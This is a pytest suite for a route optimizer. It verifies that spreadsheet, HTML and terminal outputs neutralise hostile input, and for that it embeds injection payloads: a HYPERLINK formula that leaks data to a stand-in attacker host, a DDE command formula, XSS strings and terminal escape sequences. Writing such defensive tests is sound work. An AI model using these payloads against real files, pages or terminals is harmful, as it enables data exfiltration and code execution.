"""Outputs that stay safe when the inputs are hostile ("Trust under attack").

1. CSV and Excel: no text a spreadsheet would run as a formula (OWASP "CSV injection"), no
   text turned into a link; numbers stay numbers.
2. plan.xlsx is byte-identical for the same plan (no wall-clock creation time).
3. report.html escapes every value of a hostile plan.json: no element, attribute or script
   comes from the document, and a field of the wrong type never crashes the page.
4. The terminal shows control and bidi characters in ids as visible escapes, and never reads
   an id as rich markup.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import io
import json
import re
import shutil
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from conftest import ROOT, parcel, small_lanes, small_ports
from markupsafe import Markup
from rich.console import Console

import optimizer
import optimizer.outputs.html as report
from optimizer.cli import cli
from optimizer.domain import Check
from optimizer.outputs.plan_json import plan_to_dict
from optimizer.outputs.tables import (
    FORMULA_PREFIXES,
    csv_text,
    plan_xlsx,
    routes_csv,
    safe_cell,
    vehicles_csv,
)
from optimizer.outputs.terminal import clean, print_explanation, print_frame, print_summary
from optimizer.plan import (
    Disposal,
    ExplainedOption,
    Explanation,
    Rejection,
    Unrouted,
    WouldRoute,
)

YIWU = ROOT / "scenarios" / "yiwu-tir-return.yaml"


@pytest.fixture(scope="module")
def yiwu() -> tuple[Any, Any]:
    """The bundled Yiwu scenario and its plan."""
    sc = optimizer.load_scenario(YIWU)
    return sc, optimizer.solve(sc)


# ---- 1. formula injection --------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
DDE = "=cmd|' /C notepad'!A1"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_prefix(prefix: str) -> None:
    assert prefix in FORMULA_PREFIXES
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3.25, None, True, "", "plain", "a=b",
                                   "http://example.com", " =1"])
def test_safe_cell_leaves_numbers_and_harmless_text_alone(value: Any) -> None:
    assert safe_cell(value) is value


def test_csv_text_neutralises_cells_and_header_but_not_numbers() -> None:
    text = csv_text([{"=id": HYPERLINK, "n": -5.5, "note": "\tx"},
                     {"=id": "@SUM(A1)", "n": 2, "note": "\r-1"}], ["=id", "n", "note"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=id", "n", "note"], ["'" + HYPERLINK, "-5.5", "'\tx"],
                    ["'@SUM(A1)", "2", "'\r-1"]]
    # lines end with \n; a cell with a bare CR is quoted, so no reader starts a row inside it
    assert text.endswith("2,\"'\r-1\"\n") and text.count("\n") == 3
    with pytest.raises(ValueError, match="not in the columns"):
        csv_text([{"a": 1, "b": 2}], ["a"])


def _hostile_case(make_case: Callable[..., Path]) -> Path:
    """A scenario whose parcel ids, lane ids, node names, scenario name and extra returns
    columns (names and values) are spreadsheet payloads."""
    lanes = small_lanes()
    for i, lane in enumerate(lanes):
        lane["lane_id"] = "=+-@"[i % 4] + lane["lane_id"]
    lanes[0]["lane_id"] = HYPERLINK
    ports = small_ports()
    for node in ports["nodes"]:
        node["name"] = f"{DDE} {node['name']}"
    rows = [parcel(HYPERLINK) | {"note": "=1+1", "=HDR": "http://evil.example/"},
            parcel(DDE, 500) | {"note": "-5", "=HDR": "@SUM(1)"},
            parcel("@SUM(1+1)", 300, mode="0110") | {"note": "+1", "=HDR": "x"},
            parcel("-P4", 200) | {"note": "mailto:x@evil.example", "=HDR": "file://c:/x"}]
    # the 0110 parcel may not come back: it is disposed of (the "disposed" sheet, parcels.csv)
    path = make_case(rows, lanes=lanes, ports=ports, rules={"disposal": {"allowed": True}})
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    doc["name"] = "=1+1 @scenario"
    path.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    return path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_or_sheet_cell_is_a_formula_or_a_link(make_case, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out"
    res = CliRunner().invoke(cli, ["solve", str(_hostile_case(make_case)), "--out", str(out)])
    assert res.exit_code == 0, res.output
    cells: dict[str, list[str]] = {}
    for name in ("routes.csv", "vehicles.csv", "parcels.csv", "manifests.csv"):
        with (out / name).open(newline="", encoding="utf-8") as fh:
            cells[name] = [c for row in csv.reader(fh) for c in row]
        # a cell starting like a formula is a number (a negative one), never text
        assert all(_is_number(c) for c in cells[name] if c.startswith(FORMULA_PREFIXES)), name
    assert "'" + HYPERLINK in cells["parcels.csv"] and "'" + DDE in cells["manifests.csv"]
    assert {"'=HDR", "'=1+1", "'-5", "'+1", "'@SUM(1)", "'-P4"} <= set(cells["parcels.csv"])
    assert "http://evil.example/" in cells["parcels.csv"]  # text, harmless in a CSV
    assert "'" + HYPERLINK in cells["vehicles.csv"]
    assert "disposed" in cells["parcels.csv"]
    assert any(c.startswith("'" + HYPERLINK + " > ") for c in cells["routes.csv"])

    with zipfile.ZipFile(out / "plan.xlsx") as z:
        sheets = {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}
    assert len(sheets) == 6 and not any("_rels" in n for n in sheets)  # no hyperlink targets
    assert not any("<f>" in x or "<f " in x or "<hyperlink" in x for x in sheets.values())
    book = openpyxl.load_workbook(out / "plan.xlsx")
    texts = []
    for ws in book.worksheets:
        assert not ws._hyperlinks, ws.title
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not c.value.startswith(FORMULA_PREFIXES), (ws.title, c.value)
    assert "'" + HYPERLINK in texts and "'" + DDE in texts
    routes = book["routes"]
    header = [c.value for c in routes[1]]
    weight = routes.cell(row=2, column=header.index("weight_kg") + 1)
    assert weight.data_type == "n" and weight.value == 1700  # numbers stay numbers


def test_xlsx_writes_every_type_through_the_safe_writer(yiwu) -> None:
    """Text starting with a tab or CR and negative numbers, straight into the sheets."""
    import openpyxl

    sc, plan = yiwu
    bp = plan.batches[0]
    evil = dataclasses.replace(bp, batch_id="\t=1+1", return_district="\r@x", entry_point="-1",
                               cost_cny=-12.5)
    data = plan_xlsx(dataclasses.replace(plan, batches=(evil, *plan.batches[1:])), sc.parcels)
    routes = openpyxl.load_workbook(io.BytesIO(data))["routes"]
    header = [c.value for c in routes[1]]
    row = {h: c.value for h, c in zip(header, routes[2], strict=True)}
    assert row["batch_id"] == "'\t=1+1"
    assert row["return_district"] == "'_x000D_@x"  # a CR as XlsxWriter escapes it in the XML
    assert row["entry_point"] == "'-1" and row["cost_cny"] == -12.5
    assert "'\t=1+1" in routes_csv(dataclasses.replace(plan, batches=(evil,)))
    assert vehicles_csv(plan).splitlines()[0].startswith("lane_id,")


# ---- 2. byte-identical plan.xlsx -------------------------------------------------------------


def test_plan_xlsx_is_byte_identical_for_the_same_plan(yiwu) -> None:
    sc, plan = yiwu
    first = plan_xlsx(plan, sc.parcels)
    time.sleep(1.1)  # XlsxWriter's default creation time has one-second resolution
    assert plan_xlsx(plan, sc.parcels) == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        core = z.read("docProps/core.xml").decode()
    stamp = dt.datetime.combine(plan.meta.as_of, dt.time()).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert f">{stamp}</dcterms:created>" in core and f">{stamp}</dcterms:modified>" in core


# ---- 3. report.html against a hostile plan.json ----------------------------------------------

PAYLOADS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
            "'><svg onload=alert(1)>", "</script><script>alert(1)</script>",
            "javascript:alert(1)", "{{7*7}}", "{% raw %}", "</title></style></textarea><!--",
            "&amp;&lt;", "]]>")
PAYLOAD = " ".join(PAYLOADS)


class Census(HTMLParser):
    """What a page is made of: elements, attributes, the script and style texts, the text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attrs: set[str] = set()
        self.styles: list[str] = []
        self.scripts: list[str] = []
        self.style_attrs: set[str] = set()
        self.texts: list[str] = []
        self.attr_values: list[str] = []
        self.comments = 0
        self._raw: str | None = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            self.attrs.add(name)
            self.attr_values.append(value or "")
            if name == "style":
                self.style_attrs.add(value or "")
        if tag in ("script", "style"):
            self._raw = tag
            (self.scripts if tag == "script" else self.styles).append("")

    def handle_endtag(self, tag: str) -> None:
        self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw == "script":
            self.scripts[-1] += data
        elif self._raw == "style":
            self.styles[-1] += data
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments += 1

    @property
    def text(self) -> str:
        return "".join(self.texts)


@pytest.fixture(scope="module")
def plan_doc(yiwu) -> dict[str, Any]:
    """The Yiwu plan as plan.json, with a counterfactual for an unrouted batch added."""
    _, plan = yiwu
    doc = json.loads(json.dumps(plan_to_dict(plan)))
    b = doc["batches"][0]
    doc["unrouted"] = [{
        "batch_id": b["batch_id"] + "-U", "origin": b["origin"], "destination": b["destination"],
        "weight_kg": 12.5, "reasons": [{"rule": "DISTRICT", "detail": "not a pilot"}],
        "would_route": {"relax": ["DISTRICT"], "return_port": b["return_port"],
                        "mode": b["mode"], "cost_cny": 10.0, "lanes": [], "detail": "x",
                        "sentence": "would route via X", "verified": True},
        "parcel_ids": ["P-U"]}]
    doc["disposed"] = [{
        "batch_id": b["batch_id"] + "-X", "origin": b["origin"], "destination": b["destination"],
        "goods_class": "general", "trade_mode": "0110", "export_district": "NINGBO",
        "window_start": "2025-07-01", "weight_kg": 2.0, "value_cny": 100.0,
        "parcel_ids": ["P-X"], "cost_cny": 64.0, "return_cny": None,
        "reasons": [{"rule": "TRADE_MODE", "passed": False, "detail": "not a CBEC mode"}],
        "why": "disposal 64 CNY; no compliant return route"}]
    return doc


@pytest.fixture(scope="module")
def normal(plan_doc) -> Census:
    return Census(report.render(plan_doc))


def _hostile_strings(x: Any) -> Any:
    """Every string of the document, node ids (keys) too, with the payloads appended."""
    if isinstance(x, str):
        return x + PAYLOAD
    if isinstance(x, list):
        return [_hostile_strings(v) for v in x]
    if isinstance(x, dict):
        return {(k + PAYLOAD if isinstance(v, dict) and "lat" in v else k): _hostile_strings(v)
                for k, v in x.items()}
    return x


def _numbers_to_payload(x: Any) -> Any:
    """Every number of the document (not booleans) replaced by the payloads."""
    if isinstance(x, bool):
        return x
    if isinstance(x, int | float):
        return PAYLOAD
    if isinstance(x, list):
        return [_numbers_to_payload(v) for v in x]
    if isinstance(x, dict):
        return {k: _numbers_to_payload(v) for k, v in x.items()}
    return x


def assert_nothing_injected(page: str, normal: Census) -> Census:
    """No element, attribute, script, style or comment of the page comes from the document."""
    got = Census(page)
    assert set(got.tags) <= set(normal.tags), set(got.tags) - set(normal.tags)
    assert "img" not in got.tags and got.tags["script"] == normal.tags["script"] == 1
    assert got.attrs <= normal.attrs and not any(a.startswith("on") for a in got.attrs)
    assert got.scripts == normal.scripts and got.styles == normal.styles
    assert got.style_attrs <= normal.style_attrs  # only our own colours
    assert got.comments == 0
    for raw in ("<script>alert", "<img", "<svg onload", "<!--", "</title></style>"):
        assert raw not in page
    return got


#: a whole start or end tag as the templates write them: double-quoted attribute values, which
#: (escaped) never hold a quote or an angle bracket
TAG = re.compile(r'<(/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z][a-zA-Z0-9:-]*="[^"<>]*")*)\s*/?>')
ATTR = re.compile(r'([a-zA-Z][a-zA-Z0-9:-]*)="')


def assert_well_formed(page: str, normal: Census) -> None:
    """``assert_nothing_injected`` by regular expressions, fast enough to run a thousand times:
    outside the page's own style and script, every ``<`` opens a well-formed tag of an element
    and with attributes a normal page has."""
    head, _, rest = page.partition("<style>" + normal.styles[0] + "</style>")
    body, _, tail = rest.partition("<script>" + normal.scripts[0] + "</script>")
    assert rest and tail, "the page's own style or script is missing or changed"
    markup = head.replace("<!DOCTYPE html>", "", 1) + body + tail
    tags = list(TAG.finditer(markup))
    assert len(tags) == markup.count("<"), "a < that opens no tag of the templates"
    assert markup.count(">") == len(tags), "a > outside a tag"
    assert {t[2].lower() for t in tags} <= set(normal.tags) - {"script", "style"}
    assert {a.lower() for t in tags for a in ATTR.findall(t[3])} <= normal.attrs
    assert "<!--" not in markup


def test_hostile_strings_are_escaped_everywhere(plan_doc, normal: Census) -> None:
    doc = _hostile_strings(copy.deepcopy(plan_doc))
    for v in doc["vehicles"]:
        v["count"] = PAYLOAD
        for ld in v["loads"]:
            ld["vehicle"] = PAYLOAD
    page = report.render(doc)
    got = assert_nothing_injected(page, normal)
    # the payloads are shown, as text: in the tables, the map's labels and tooltips, the charts
    for p in PAYLOADS:
        assert p in got.text
    assert got.tags["polyline"] == normal.tags["polyline"] > 0  # the map is drawn
    assert got.tags["circle"] == normal.tags["circle"]
    node = next(iter(plan_doc["nodes"]))
    assert node + PAYLOAD in got.text  # a node label, escaped


def test_hostile_numbers_render_as_text(plan_doc, normal: Census) -> None:
    doc = _numbers_to_payload(copy.deepcopy(plan_doc))
    got = assert_nothing_injected(report.render(doc), normal)
    assert PAYLOADS[1] in got.text  # e.g. vehicles[].count, shown as escaped text
    assert "No network coordinates in this plan." in got.text  # lat/lon are not numbers


def _paths(x: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in the document, lists and node ids generalised to "*"."""
    yield path
    if isinstance(x, dict):
        for k, v in x.items():
            yield from _paths(v, (*path, "*" if path == ("nodes",) else k))
    elif isinstance(x, list):
        for v in x:
            yield from _paths(v, (*path, "*"))


def _replace(x: Any, path: tuple[Any, ...], value: Any) -> Any:
    """The document with every place matching ``path`` replaced by ``value``."""
    if not path:
        return value
    head, rest = path[0], path[1:]
    if isinstance(x, dict):
        return {k: _replace(v, rest, value) if head in ("*", k) else v for k, v in x.items()}
    if isinstance(x, list) and head == "*":
        return [_replace(v, rest, value) for v in x]
    return x


WRONG = (PAYLOAD, None, True, -1e308, 10**400, float("nan"), [PAYLOAD], {"x": PAYLOAD},
         Markup('<img src=x onerror="alert(1)">'))


def test_no_field_of_any_type_crashes_or_injects(plan_doc, normal: Census,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Each place of the document in turn, with each wrong type: the page renders, safely."""
    # for speed: one small country, two batches (one vehicle bought, one booked per kg)
    one_country = [{"name": "Triangle", "rings": [[[100.0, 30.0], [101.0, 30.0], [101.0, 31.0]]]}]
    monkeypatch.setattr(report, "_countries", lambda: one_country)
    doc = copy.deepcopy(plan_doc)
    doc["batches"] = doc["batches"][:2]
    doc["vehicles"] = [v for v in doc["vehicles"] if v["count"]][:1] + doc["vehicles"][:1]
    for b in doc["batches"]:
        b["parcel_ids"] = b["parcel_ids"][:2]
    normal = Census(report.render(doc))
    assert normal.tags["polyline"] and normal.tags["circle"] and "vehicles" in normal.attr_values
    places = sorted(set(_paths(doc)) - {()}, key=str)
    assert len(places) > 100
    for place in places:
        for wrong in WRONG:
            page = report.render(_replace(doc, place, wrong))
            if wrong is PAYLOAD:
                assert_nothing_injected(page, normal)  # html.parser: thorough, slow
            else:
                assert_well_formed(page, normal)  # the same in regular expressions
    for doc in ([], "x", {}, {"batches": PAYLOAD, "nodes": [PAYLOAD]}, None):
        assert_nothing_injected(report.render(doc), normal)  # type: ignore[arg-type]


CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"


def test_hostile_report_runs_no_script_in_chromium(plan_doc, tmp_path: Path) -> None:
    """The same hostile page in a real browser: no payload runs, the page's script still does."""
    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.fail("Chromium and ChromeDriver are needed (Debian packages chromium and "
                    "chromium-driver)")
    from selenium import webdriver
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    mark = ('<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
            '<svg onload="window.pwned=1"></svg>')
    doc = copy.deepcopy(plan_doc)
    doc["scenario"] = mark
    for b in doc["batches"]:
        b["batch_id"] += mark
        b["compliance"][0]["detail"] += mark
    for v in doc["vehicles"]:
        v["count"] = mark if v["count"] else 0
    page = tmp_path / "hostile.html"
    page.write_text(report.render(doc), encoding="utf-8")
    opts = webdriver.ChromeOptions()
    opts.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", "--proxy-server=127.0.0.1:9",
                f"--user-data-dir={tmp_path / 'profile'}"):
        opts.add_argument(arg)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
    try:
        driver.get(page.as_uri())
        with pytest.raises(NoAlertPresentException):
            driver.switch_to.alert.text  # noqa: B018
        assert driver.execute_script("return window.pwned === undefined")
        assert driver.execute_script("return document.images.length") == 0
        assert driver.execute_script("return document.scripts.length") == 1
        assert mark in driver.title
        box = driver.find_element(By.ID, "filter")  # the page's own script still works
        box.send_keys("no such batch")
        assert not any(tr.is_displayed()
                       for tr in driver.find_elements(By.CSS_SELECTOR, "#batches tbody tr"))
    finally:
        driver.quit()


# ---- 4. the terminal -------------------------------------------------------------------------

EVIL_ID = "B\x1b[2J\x1b]0;title\x07\x9b31m\u202eevil\u2066[bold]x[/bold] :smile:\x00\x7f\r\n"
#: what a terminal would act on: everything the sanitiser escapes except the newlines rich
#: itself ends lines with
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e"
                    "\u2066-\u2069]")


def test_clean_shows_control_and_bidi_characters_as_escapes() -> None:
    assert clean("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert clean("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert clean("\u202eabc\u2066\u2069\x9b\x00\n\t") == (
        "\\u202eabc\\u2066\\u2069\\x9b\\x00\\x0a\\x09")
    assert clean("[bold]ok[/bold] 中文 é") == "[bold]ok[/bold] 中文 é"


def _hostile_plan(plan: Any) -> Any:
    bps = []
    for bp in plan.batches:
        legs = tuple(dataclasses.replace(leg, lane_id=leg.lane_id + EVIL_ID) for leg in bp.legs)
        bps.append(dataclasses.replace(bp, batch_id=bp.batch_id + EVIL_ID,
                                       return_port=EVIL_ID, return_district=EVIL_ID,
                                       entry_point=EVIL_ID, mode=EVIL_ID, legs=legs))
    check = Check(EVIL_ID, False, "detail " + EVIL_ID)
    unrouted = Unrouted(EVIL_ID, "HUB", "SELLER", 12.5, (check,), ("P1",), "general", "9610",
                        "ADIST", dt.date(2025, 7, 1),
                        WouldRoute((EVIL_ID,), EVIL_ID, EVIL_ID, 10.0, (EVIL_ID,), EVIL_ID))
    disposed = Disposal(EVIL_ID, "HUB", EVIL_ID, "general", "0110", EVIL_ID, 2.0, 100.0,
                        (EVIL_ID,), 64.0, None, (check,), "why " + EVIL_ID, dt.date(2025, 7, 1))
    return dataclasses.replace(plan, scenario=EVIL_ID, batches=tuple(bps), unrouted=(unrouted,),
                               disposed=(disposed,), status=EVIL_ID)


def _printed(fn: Callable[[Console], None], *, terminal: bool = False) -> str:
    buf = io.StringIO()
    fn(Console(file=buf, force_terminal=terminal, width=200))
    return buf.getvalue()


def _assert_safe_terminal_text(out: str) -> None:
    assert UNSAFE.search(out) is None, UNSAFE.findall(out)
    assert "[bold]x[/bold]" in out and ":smile:" in out  # no markup, no emoji codes
    assert "\\x1b[2J" in out and "\\x1b]0;title\\x07" in out and "\\u202e" in out


def test_summary_prints_hostile_ids_harmlessly(yiwu) -> None:
    plan = _hostile_plan(yiwu[1])
    out = _printed(lambda c: print_summary(plan, c))
    _assert_safe_terminal_text(out)
    assert out.count("[bold]x[/bold]") >= len(plan.batches) + 3
    many = dataclasses.replace(plan, batches=plan.batches * 20)  # the summary by route too
    _assert_safe_terminal_text(_printed(lambda c: print_summary(many, c)))
    # in colour, the only escape sequences are rich's own colours (SGR)
    colour = _printed(lambda c: print_summary(plan, c), terminal=True)
    assert "\x1b" in colour and "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", colour)


def test_explanation_and_frames_print_hostile_text_harmlessly(yiwu) -> None:
    plan = _hostile_plan(yiwu[1])
    option = ExplainedOption(EVIL_ID, EVIL_ID, EVIL_ID, "rejected", 1.0, 2.0, None, 3,
                             (EVIL_ID, EVIL_ID), (Rejection(EVIL_ID, EVIL_ID),),
                             forced_change_cny=5.0, forced_status=EVIL_ID)
    for e in (Explanation(EVIL_ID, plan.batches[0], None, (option,)),
              Explanation(EVIL_ID, None, plan.unrouted[0], (option,))):
        _assert_safe_terminal_text(_printed(lambda c, e=e: print_explanation(e, c)))
    import pandas as pd

    frame = pd.DataFrame({EVIL_ID: [EVIL_ID, 1.5]}, index=pd.Index([EVIL_ID, "x"]))
    for index in (EVIL_ID, None):
        _assert_safe_terminal_text(
            _printed(lambda c, i=index: print_frame(frame, EVIL_ID, c, index=i)))


def test_explain_shows_what_forcing_an_option_changes(yiwu) -> None:
    """The re-solved change of the plan's objective, in the table and in ``explain --json``."""
    from optimizer.outputs.plan_json import explanation_to_dict
    from optimizer.outputs.terminal import forced_cell

    plan = yiwu[1]
    bp = plan.batches[0]
    chosen = ExplainedOption(bp.return_port, bp.return_district, bp.mode, "chosen", 1.0, 1.0,
                             0.0, 3, ("L",), (), forced_change_cny=0.0, forced_status="OPTIMAL")
    air = ExplainedOption("AIRPORT", "BDIST", "air", "allowed", 2.0, 2.0, 1.0, 3, ("L",), (),
                          forced_change_cny=27_700.0, forced_status="OPTIMAL")
    skipped = dataclasses.replace(air, forced_change_cny=None, forced_status=None)
    assert [forced_cell(o) for o in (chosen, air, skipped)] == [
        "+0 (the plan)", "+27,700 (OPTIMAL)", "—"]
    e = Explanation(bp.batch_id, bp, None, (chosen, air, skipped))
    out = _printed(lambda c: print_explanation(e, c))
    assert "forced (re-solved)" in out and "+27,700 (OPTIMAL)" in out
    rows = explanation_to_dict(e)["options"]
    assert [(r["forced_change_cny"], r["forced_status"]) for r in rows] == [
        (0.0, "OPTIMAL"), (27_700.0, "OPTIMAL"), (None, None)]
